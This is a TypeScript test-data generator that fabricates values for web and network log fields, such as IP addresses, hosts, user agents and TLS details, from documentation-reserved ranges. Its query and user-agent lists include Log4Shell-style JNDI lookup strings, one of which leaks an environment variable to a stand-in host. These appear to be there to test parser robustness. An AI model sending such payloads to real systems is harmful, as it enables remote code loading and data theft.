/**
 * Made-up values for fields, chosen by what a field is called: an address for `…IP`, a country for `…Country`. Hosts
 * and addresses are those set aside for documentation. Some texts are awkward on purpose: quotes, controls, emoji, `${`.
 */
import type { Field } from './dataset.ts'
import type { Random } from './random.ts'

/** Whole numbers beyond 2^53 are bigint. */
export type Value = string | number | bigint | boolean | readonly Value[] | { readonly [key: string]: Value }

type Maker = (random: Random) => Value

export function makeValue(field: Field, random: Random): Value {
  switch (field.type) {
    case 'array': {
      const length = random.pick([0, 0, 1, 1, 2, 3])
      const item = { ...field, type: field.items ?? 'string' } as const
      return Array.from({ length }, () => makeValue(item, random))
    }
    case 'object':
      return anObject(random)
    case 'bool':
      return random.isOneIn(3)
    case 'float':
      return (random.below(10_000) + 1) / 64
    case 'int':
      return (ints.find(([name]) => name.test(field.name))?.[1] ?? aSmallInt)(random)
    case 'string':
      if (field.enum && !random.isOneIn(20)) return random.pick(field.enum)
      return (strings.find(([name]) => name.test(field.name))?.[1] ?? aWord)(random)
  }
}

const countries = ['de', 'us', 'br', 'in', 'jp', 'ng', 'fr', 'gb'] as const
const cities = ['Köln', 'São Paulo', '東京', 'Kraków', 'Lagos', 'नई दिल्ली', 'Reykjavík', 'Saint-Étienne'] as const
const hosts = [
  'www.example.com',
  'api.example.com',
  'shop.example.net',
  'static.example.org',
  'bücher.example',
] as const
const paths = [
  '/',
  '/index.html',
  '/api/v2/orders',
  '/assets/app.3f9c1b.js',
  '/suche/größe',
  '/img/日本.webp',
  '/login',
] as const
const queries = [
  '',
  '',
  '?page=2',
  '?q=caf%C3%A9&sort=asc',
  '?utm_source=mail',
  `?q=\${jndi:ldap://x.example/a}`,
] as const
const agents = [
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'curl/8.14.1',
  'ExampleBot/2.1 (+https://bot.example/about)',
  `\${jndi:ldap://192.0.2.66/\${env:USER}}`,
] as const
const words = ['alpha', 'bravo', 'carrot', 'délta', 'echo', 'フォックス', 'golf', 'hôtel', 'india', 'julia'] as const
const awkward = [
  'a "quoted" \\ text',
  'tab\tand\nnewline',
  'bell \u0007',
  'line\u2028separator',
  '🙂 </script>',
  `\${x}`,
  ' ',
] as const

const aWord: Maker = (random) => (random.isOneIn(12) ? random.pick(awkward) : random.pick(words))
const anAddress: Maker = (random) =>
  random.isOneIn(4)
    ? `2001:db8:${random.hex(4)}::${random.hex(4)}`
    : `${random.pick(['192.0.2', '198.51.100', '203.0.113'])}.${random.below(256)}`
const aHost: Maker = (random) => random.pick(hosts)
const aPath: Maker = (random) => random.pick(paths)
const aTarget: Maker = (random) => `${random.pick(paths)}${random.pick(queries)}`
const aUrl: Maker = (random) => `https://${random.pick(hosts)}${random.pick(paths)}${random.pick(queries)}`
const anEmail: Maker = (random) => `${random.pick(['ada', 'grace', 'zoë', 'linus'])}@${random.pick(hosts)}`
const aHash: Maker = (random) => random.hex(32)
const aUuid: Maker = (random) =>
  `${random.hex(8)}-${random.hex(4)}-4${random.hex(3)}-a${random.hex(3)}-${random.hex(12)}`
const aTls: Maker = (random) => random.pick(['TLSv1.3', 'TLSv1.3', 'TLSv1.2', 'none'])
const aStatus: Maker = (random) => random.pick([200, 200, 200, 204, 301, 304, 403, 404, 429, 500, 502, 503])
const aSmallInt: Maker = (random) => random.below(1000)
const anObject: Maker = (random) => ({
  [random.pick(words)]: aWord(random),
  count: random.long(),
  nested: { ok: random.isOneIn(2), list: [random.below(10), aWord(random)] },
})

// The first pattern that fits wins, so the narrow ones stand first.
const strings: readonly (readonly [RegExp, Maker])[] = [
  [/RayID$/, (random) => random.hex(16)],
  [/UserAgent/, (random) => random.pick(agents)],
  [/Referr?er$|URL$|Link$/, aUrl],
  [/URI$/, aTarget],
  [/Path$/, aPath],
  [/Query$/, (random) => random.pick(queries)],
  [/Method$/, (random) => random.pick(['GET', 'GET', 'GET', 'POST', 'HEAD', 'PUT'])],
  [/Scheme$/, (random) => random.pick(['https', 'https', 'http'])],
  [/RequestProtocol$|HTTPVersion/, (random) => random.pick(['HTTP/1.1', 'HTTP/2', 'HTTP/3'])],
  [/(SSL|TLS|Tls)(Protocol|Version)|OriginTlsProtocol/, aTls],
  [/Cipher$/, (random) => random.pick(['AEAD-AES128-GCM-SHA256', 'ECDHE-ECDSA-AES128-GCM-SHA256', 'NONE'])],
  [/Protocol(Name)?$|Transport|Proto$/, (random) => random.pick(['tcp', 'udp', 'icmp'])],
  [/DeviceType$/, (random) => random.pick(['desktop', 'mobile', 'tablet'])],
  [/RequestSource$/, (random) => random.pick(['eyeball', 'edgeWorkerFetch'])],
  [/SecurityLevel$/, (random) => random.pick(['off', 'low', 'med', 'high'])],
  [/ContentType$|ObjTypes$/, (random) => random.pick(['text/html', 'application/json', 'image/webp', 'text/css'])],
  [/LastModified$|Expires$/, (random) => `Tue, ${10 + random.below(20)} Jun 2025 0${random.below(10)}:12:33 GMT`],
  [/JA3Hash|Fingerprint$|Hash$/, aHash],
  [/JA4$/, (random) => `t13d1516h2_${random.hex(12)}_${random.hex(12)}`],
  [/Country(Codes?|ISO)?$|IPGeo$/, (random) => random.pick(countries)],
  [/City$/, (random) => random.pick(cities)],
  [/Latitude$/, (random) => `${random.below(90)}.${random.below(100_000)}`],
  [/Longitude$/, (random) => `-${random.below(180)}.${random.below(100_000)}`],
  [/Colo(Code)?$/, (random) => random.pick(['FRA', 'GRU', 'NRT', 'LHR', 'IAD', 'LOS'])],
  [/IP(v[46])?(s|Address|AddressV6)?$|Address$|Addr$/, anAddress],
  [/Subnet$|Netmask$/, (random) => `${random.pick(['192.0.2', '198.51.100'])}.0/${random.pick([24, 25, 28])}`],
  [/Email$|^From$|^To$|^B?CC$|Sender$|Recipient$|ReplyTo$|Envelope/, anEmail],
  [/Host(name)?$|Domain(Name)?$|SNI$|QueryName$|ZoneName$|FQDN$|CNAMEs$/, aHost],
  [/(UU|U)ID$|(Device|Registration|Session|Request|Message|Connection|Alert|Policy|Account|User)ID$/, aUuid],
  [/IDs?$|Sitekey$|Serial/, aHash],
]

const ints: readonly (readonly [RegExp, Maker])[] = [
  [/Status(Code)?$/, aStatus],
  [/Port$/, (random) => 1024 + random.below(64_000)],
  [/ASN?$/, (random) => random.pick([3320, 7922, 64496, 64511, 4_200_000_000])],
  [/(Ms|Time|Latency|Rtt)$/, (random) => random.below(random.isOneIn(50) ? 60_000 : 800)],
  [/Us$/, (random) => random.below(900_000)],
  [
    /(ZoneID|LimitID|SignatureID|IDs|Sequence\w*|Bits)$/,
    (random) => (random.isOneIn(3) ? random.long() : random.below(3_000_000)),
  ],
  [
    /(Bytes(Client|Origin|Sent|Received)?|Size|Sizes|BPS|KB)$/,
    (random) => random.below(random.isOneIn(20) ? 40_000_000 : 60_000),
  ],
  [/Score$/, (random) => 1 + random.below(99)],
  [/DBM$/, (random) => -random.below(90)],
]
